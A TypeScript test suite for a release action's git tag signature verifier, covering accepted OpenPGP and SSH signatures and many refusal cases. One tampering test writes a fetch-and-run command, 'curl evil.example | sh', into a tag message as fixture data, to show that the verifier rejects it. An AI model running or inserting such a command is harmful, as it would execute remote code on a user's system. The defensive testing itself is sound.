import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  TagVerificationError,
  verifyTag,
  type TagTrust,
  type TagVerificationFailure,
  type VerifiedTag,
} from '../../actions/release/tag-signature.ts';
import { SigningFixture, type GpgKey, type SshKey } from './signing-fixture.ts';

let fixture: SigningFixture;
let commit: string;
let trusted: GpgKey;
let stranger: GpgKey;
let expired: GpgKey;
let revoked: GpgKey;
let longLived: GpgKey;
let releaser: SshKey;
let outsider: SshKey;
let openpgpTrust: TagTrust;
let sshTrust: TagTrust;

beforeAll(async () => {
  fixture = await SigningFixture.create();
  commit = await fixture.head();
  [trusted, stranger, revoked] = [
    await fixture.gpgKey('Release Manager <rm@example.invalid>', '1y'),
    await fixture.gpgKey('Stranger <stranger@example.invalid>', '1y'),
    await fixture.gpgKey('Revoked <revoked@example.invalid>', '1y'),
  ];
  // Made in 2020 with a one-day lifetime: expired long before the test runs.
  expired = await fixture.gpgKey('Expired <expired@example.invalid>', '1d', '20200101T000000');
  longLived = await fixture.gpgKey('Long Lived <long@example.invalid>', 'never', '20200101T000000');
  releaser = await fixture.sshKey('releaser');
  outsider = await fixture.sshKey('outsider');

  await fixture.gpgTag('1.2', trusted, '1.2', '- cool new feature A', '- fix crash on Fedora (rhbz#1234)');
  await fixture.gpgTag('v2.0', trusted, 'v2.0');
  await fixture.gpgTag('nightly', trusted, 'nightly');
  await fixture.sshTag('3.0', releaser, '3.0', 'signed with ssh');
  await fixture.gpgTag('1.5', stranger, '1.5');
  await fixture.gpgTag('1.8', revoked, '1.8');
  await fixture.revoke(revoked.fingerprint);
  revoked.publicKey = await fixture.exportKey(revoked.fingerprint);
  await fixture.handSignedTag('1.6', expired, '20200101T120000');
  await fixture.handSignedTag('1.7', longLived, '20200101T120000', ['--default-sig-expire', '1d']);
  await fixture.git('tag', '1.3');
  await fixture.git('tag', '-m', '1.4', '1.4');

  openpgpTrust = {
    openpgpKeys: [trusted, expired, revoked, longLived].map((key) => key.publicKey).join('\n'),
  };
  sshTrust = { sshAllowedSigners: `release@example.invalid ${releaser.publicKey}\n` };
});

afterAll(async () => {
  await fixture?.dispose();
});

function verify(tag: string, trust: TagTrust, extra: { versionPattern?: string | RegExp } = {}) {
  return verifyTag({ repoDir: fixture.repo, tag, trust, ...extra });
}

async function failure(
  pending: Promise<VerifiedTag>,
  reason: TagVerificationFailure,
): Promise<TagVerificationError> {
  const error = await pending.then(
    (tag) => {
      throw new Error(`expected ${reason}, but the tag verified: ${JSON.stringify(tag.signer)}`);
    },
    (error: unknown) => error,
  );
  expect(error).toBeInstanceOf(TagVerificationError);
  expect((error as TagVerificationError).reason).toBe(reason);
  return error as TagVerificationError;
}

describe('verifyTag: good signatures', () => {
  it('accepts a tag signed by a trusted OpenPGP key, with the message as git stores it', async () => {
    const tagSha = (await fixture.git('rev-parse', 'refs/tags/1.2')).trim();
    await expect(verify('1.2', openpgpTrust)).resolves.toEqual({
      name: '1.2',
      sha: tagSha,
      commit,
      message: '1.2\n\n- cool new feature A\n\n- fix crash on Fedora (rhbz#1234)\n',
      signer: {
        format: 'openpgp',
        fingerprint: trusted.fingerprint,
        identity: 'Release Manager <rm@example.invalid>',
      },
    });
  });

  it('accepts the full ref as GITHUB_REF gives it, and a v prefix', async () => {
    expect((await verify('refs/tags/1.2', openpgpTrust)).name).toBe('1.2');
    expect((await verify('v2.0', openpgpTrust)).signer.fingerprint).toBe(trusted.fingerprint);
  });

  it('trusts the keys of a keyring file in the repository (binary export)', async () => {
    await fixture.run('gpg', [
      '--batch',
      '--yes',
      '--export',
      '--output',
      path.join(fixture.repo, 'release-keys.gpg'),
      trusted.fingerprint,
    ]);
    const tag = await verify('1.2', { openpgpKeyringFile: 'release-keys.gpg' });
    expect(tag.signer).toMatchObject({ format: 'openpgp', fingerprint: trusted.fingerprint });
  });

  it('accepts an SSH-signed tag whose key is in the allowed signers', async () => {
    const tag = await verify('3.0', sshTrust);
    expect(tag.signer).toEqual({
      format: 'ssh',
      fingerprint: releaser.fingerprint,
      keyType: 'ED25519',
      identity: 'release@example.invalid',
    });
    expect(tag.message).toBe('3.0\n\nsigned with ssh\n');
    expect(tag.commit).toBe(commit);
  });

  it('tolerates an allowed-signers input pasted with CRLFs, indentation and blank lines', async () => {
    const pasted = `\r\n  # release managers\r\n  release@example.invalid ${releaser.publicKey}\r\n\r\n`;
    expect((await verify('3.0', { sshAllowedSigners: pasted })).signer.identity).toBe(
      'release@example.invalid',
    );
  });

  it('takes the version pattern from the caller', async () => {
    const tag = await verify('nightly', openpgpTrust, { versionPattern: '^nightly$' });
    expect(tag.name).toBe('nightly');
  });
});

describe('verifyTag: refusals', () => {
  it('a tag that does not exist', async () => {
    const error = await failure(verify('9.9', openpgpTrust), 'missing');
    expect(error.message).toContain('tag 9.9 does not exist');
  });

  it('a lightweight tag, saying how to make a signed one', async () => {
    const error = await failure(verify('1.3', openpgpTrust), 'lightweight');
    expect(error.message).toContain('lightweight');
    expect(error.message).toContain('git tag -s 1.3');
  });

  it('an annotated tag without a signature', async () => {
    const error = await failure(verify('1.4', openpgpTrust), 'unsigned');
    expect(error.message).toContain('not signed');
  });

  it('a signature git cannot find because --cleanup=verbatim glued it to the message', async () => {
    await fixture.git(
      '-c',
      `user.signingkey=${trusted.fingerprint}`,
      'tag',
      '-s',
      '--cleanup=verbatim',
      '-m',
      '1.10',
      '1.10',
    );
    expect(await fixture.git('cat-file', 'tag', '1.10')).toContain('\n1.10-----BEGIN PGP SIGNATURE-----\n');
    const error = await failure(verify('1.10', openpgpTrust), 'unsigned');
    expect(error.message).toContain('--cleanup=whitespace');
  });

  it('a tag whose message was changed after signing (OpenPGP)', async () => {
    await fixture.gpgTag('1.9', trusted, '1.9', 'harmless');
    const original = await fixture.git('cat-file', 'tag', '1.9');
    expect(original).toContain('-----BEGIN PGP SIGNATURE-----');
    await fixture.writeTagObject('1.9', original.replace('harmless', 'curl evil.example | sh'));
    const error = await failure(verify('1.9', openpgpTrust), 'bad-signature');
    expect(error.message).toContain('changed after it was signed');
  });

  it('a tag whose message was changed after signing (SSH)', async () => {
    await fixture.sshTag('3.1', releaser, '3.1', 'harmless');
    const original = await fixture.git('cat-file', 'tag', '3.1');
    await fixture.writeTagObject('3.1', original.replace('harmless', 'evil'));
    await failure(verify('3.1', sshTrust), 'bad-signature');
  });

  it('a signed tag object pushed under another name', async () => {
    await fixture.git('update-ref', 'refs/tags/4.0', 'refs/tags/1.2');
    const error = await failure(verify('4.0', openpgpTrust), 'name-mismatch');
    expect(error.message).toContain('made for "1.2"');
  });

  it('an OpenPGP key outside the trust set, naming its fingerprint', async () => {
    const error = await failure(verify('1.5', openpgpTrust), 'untrusted-key');
    expect(error.fingerprint).toBe(stranger.fingerprint);
    expect(error.message).toContain(stranger.fingerprint);
  });

  it('an OpenPGP-signed tag when only SSH signers are configured, naming the fingerprint', async () => {
    const error = await failure(verify('1.2', sshTrust), 'untrusted-key');
    expect(error.message).toContain(trusted.fingerprint);
    expect(error.message).toContain('no OpenPGP keys are configured');
  });

  it('an SSH key missing from the allowed signers, naming its fingerprint', async () => {
    // ssh-keygen still prints `Good "git" signature with … key` here (it checked the signature but found
    // no principal): only the `for <identity>` form means the key is allowed.
    const error = await failure(
      verify('3.0', { sshAllowedSigners: `outsider@example.invalid ${outsider.publicKey}\n` }),
      'untrusted-key',
    );
    expect(error.fingerprint).toBe(releaser.fingerprint);
    expect(error.message).toContain(releaser.fingerprint);
  });

  it('an expired OpenPGP key (EXPKEYSIG, although gpg also says VALIDSIG)', async () => {
    const error = await failure(verify('1.6', openpgpTrust), 'expired-key');
    expect(error.fingerprint).toBe(expired.fingerprint);
    expect(error.message).toContain('expired 2020-01-02T00:00:00Z');
  });

  it('an expired signature (EXPSIG)', async () => {
    const error = await failure(verify('1.7', openpgpTrust), 'expired-signature');
    expect(error.fingerprint).toBe(longLived.fingerprint);
    expect(error.message).toContain('expired 2020-01-02T12:00:00Z');
  });

  it('a revoked OpenPGP key (REVKEYSIG)', async () => {
    const error = await failure(verify('1.8', openpgpTrust), 'revoked-key');
    expect(error.fingerprint).toBe(revoked.fingerprint);
  });

  it('an SSH key whose allowed-signers entry expired before the tag was made', async () => {
    const entry = `release@example.invalid valid-before="20200101" ${releaser.publicKey}\n`;
    const error = await failure(verify('3.0', { sshAllowedSigners: entry }), 'expired-key');
    expect(error.message).toContain(releaser.fingerprint);
  });

  it('a tag name that is not a version', async () => {
    const error = await failure(verify('nightly', openpgpTrust), 'version-pattern');
    expect(error.message).toContain('^v?\\d+(\\.\\d+)*$');
  });

  it('a name git would resolve to something else than the tag', async () => {
    await failure(verify('1.2^{commit}', openpgpTrust, { versionPattern: /./ }), 'invalid-name');
  });

  it('no trusted keys at all, and a private key where public keys belong', async () => {
    await failure(verify('1.2', {}), 'configuration');
    const secret = await fixture.run('gpg', [
      '--batch',
      '--pinentry-mode',
      'loopback',
      '--passphrase',
      '',
      '--armor',
      '--export-secret-keys',
      trusted.fingerprint,
    ]);
    const error = await failure(verify('1.2', { openpgpKeys: secret }), 'configuration');
    expect(error.message).toContain('PRIVATE');
  });

  it('allowed keys that hold no key', async () => {
    const error = await failure(verify('1.2', { openpgpKeys: 'not a key' }), 'configuration');
    expect(error.message).toContain('no usable OpenPGP public key');
  });

  it('a keyring file that is not there', async () => {
    const error = await failure(verify('1.2', { openpgpKeyringFile: 'keys/missing.gpg' }), 'configuration');
    expect(error.message).toContain('keys/missing.gpg');
  });
});
